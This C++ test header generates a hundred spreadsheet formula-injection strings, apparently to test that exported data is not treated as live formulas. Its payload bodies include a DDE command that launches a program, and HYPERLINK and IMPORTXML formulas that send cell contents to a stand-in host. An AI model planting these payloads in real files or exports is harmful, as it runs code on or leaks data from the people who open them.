#pragma once
/// A hundred texts that some spreadsheet would run, for tests that no file of ours makes them live: every sign by which
/// a reader tells a formula, alone or behind what it passes over, before what does harm.

#include <array>
#include <string>
#include <vector>

namespace baken::test {

inline std::vector<std::string> formula_payloads() {
    // How a formula begins: plain, behind blanks and control characters, full-width, and in OpenDocument's own ways.
    static const std::array<std::string, 20> starts{"=",
                                                    "+",
                                                    "-",
                                                    "@",
                                                    "\t=",
                                                    "\r=",
                                                    "\n=",
                                                    " =",
                                                    "\t+",
                                                    "\t-",
                                                    "\t@",
                                                    "  =",
                                                    "of:=",
                                                    "oooc:=",
                                                    "msoxl:=",
                                                    "OF:=",
                                                    "\xEF\xBC\x9D",  // ＝
                                                    "\xEF\xBC\x8B",
                                                    "\xEF\xBC\x8D",
                                                    "\xEF\xBC\xA0"};  // ＋ － ＠
    // What it does: counts (seen at once), runs a program, fetches an address, reads another file, refers.
    static const std::array<std::string, 5> bodies{
        "1+1", "cmd|'/C calc'!A0", "HYPERLINK(\"http://example.invalid/?\"&A1;\"klik\")",
        "IMPORTXML(CONCAT(\"http://example.invalid/?\", A1:A9), \"//a\")", "SUM([.A1:.A9])"};
    std::vector<std::string> all;
    for (const std::string& start : starts)
        for (const std::string& body : bodies) all.push_back(start + body);
    return all;
}

}  // namespace baken::test
